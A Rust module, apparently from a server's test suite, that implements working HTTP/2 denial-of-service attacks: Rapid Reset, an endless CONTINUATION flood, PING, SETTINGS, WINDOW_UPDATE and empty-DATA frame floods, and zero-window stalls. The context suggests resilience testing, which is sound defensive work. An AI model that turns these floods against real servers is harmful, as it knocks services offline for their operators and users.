//! Attacks that are work for the server, each on one connection from its beginning to its end.

use std::io;

use ship_tests::http2::{self, encoded, flag, kind};

use super::Attack;
use super::wire::{Flood, Place};

/// How much is written at once, in bytes.
const BATCH_BYTES: usize = 64 * 1024;

/// `SETTINGS_INITIAL_WINDOW_SIZE` (RFC 9113, section 6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;

/// The file that is asked for where an answer should be large.
pub(crate) const LARGE: &str = "/large.bin";

/// The function that takes a body.
pub(crate) const TAKES: &str = "/api/takes";

/// Attacks once. It ends as the server ends the connection, or when there is nothing more to do on it.
pub(super) fn once(attack: Attack, place: &Place<'_>) -> io::Result<()> {
    match attack {
        Attack::Handshakes => place.secure("h2").map(drop),
        Attack::RapidReset => rapid_reset(place),
        Attack::Continuation => continuation(place),
        Attack::Ping => without_end(&mut place.http2(&[])?, &encoded(kind::PING, flag::NONE, 0, &[0; 8])),
        Attack::Settings => {
            let window = |bytes: u16| [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &[0, 0], &bytes.to_be_bytes()].concat();
            let settings = [0, 1].map(|bytes| encoded(kind::SETTINGS, flag::NONE, 0, &window(bytes))).concat();
            without_end(&mut with_large_answers(place)?, &settings)
        }
        Attack::WindowUpdate => {
            let opened = |stream: u32| encoded(kind::WINDOW_UPDATE, flag::NONE, stream, &[0, 0, 0, 1]);
            let opened: Vec<u8> =
                std::iter::once(0).chain((0..100).map(|number| 2 * number + 1)).flat_map(opened).collect();
            without_end(&mut with_large_answers(place)?, &opened)
        }
        Attack::EmptyData => {
            let mut flood = place.http2(&[])?;
            flood.write(&encoded(kind::HEADERS, flag::END_HEADERS, 1, &post(place)))?;
            without_end(&mut flood, &encoded(kind::DATA, flag::NONE, 1, &[]))
        }
        Attack::SlowHeads | Attack::SlowBodies | Attack::SlowReaders | Attack::NoWindow | Attack::Crowd => {
            unreachable!("this needs a crowd")
        }
    }
}

/// The same frames, again and again.
fn without_end(flood: &mut Flood, frames: &[u8]) -> io::Result<()> {
    let batch = frames.repeat(BATCH_BYTES.div_ceil(frames.len()));
    loop {
        flood.write(&batch)?;
    }
}

/// As many streams are taken back at once as servers allow to be waiting, then the next ones.
fn rapid_reset(place: &Place<'_>) -> io::Result<()> {
    const AT_ONCE: u32 = 18;
    let mut flood = place.http2(&[])?;
    let head = http2::get(place.authority, LARGE);
    for first in (0..).step_by(AT_ONCE as usize) {
        let streams = (first..first + AT_ONCE).map(|number| 2 * number + 1);
        let frames = streams.flat_map(|stream| {
            let asked = encoded(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &head);
            [asked, encoded(kind::RST_STREAM, flag::NONE, stream, &[0, 0, 0, 8])].concat()
        });
        let frames: Vec<u8> = frames.chain(encoded(kind::PING, flag::NONE, 0, &[0; 8])).collect();
        flood.write(&frames)?;
        flood.wait()?;
    }
    Ok(())
}

/// One head, in pieces of the largest size.
fn continuation(place: &Place<'_>) -> io::Result<()> {
    let mut flood = place.http2(&[])?;
    flood.write(&encoded(kind::HEADERS, flag::END_STREAM, 1, &http2::get(place.authority, "/")))?;
    let piece = encoded(kind::CONTINUATION, flag::NONE, 1, &http2::headers(&[("x", &"y".repeat(16 * 1024 - 16))]));
    loop {
        flood.write(&piece)?;
    }
}

/// A connection with a hundred large answers, none of which may begin.
pub(super) fn with_large_answers(place: &Place<'_>) -> io::Result<Flood> {
    let mut flood = place.http2(&[(INITIAL_WINDOW_SIZE, 0)])?;
    let head = http2::get(place.authority, LARGE);
    let asked = |number: u32| encoded(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 2 * number + 1, &head);
    flood.write(&(0..100).flat_map(asked).collect::<Vec<u8>>())?;
    Ok(flood)
}

fn post(place: &Place<'_>) -> Vec<u8> {
    let authority = place.authority;
    http2::headers(&[(":method", "POST"), (":scheme", "https"), (":authority", authority), (":path", TAKES)])
}
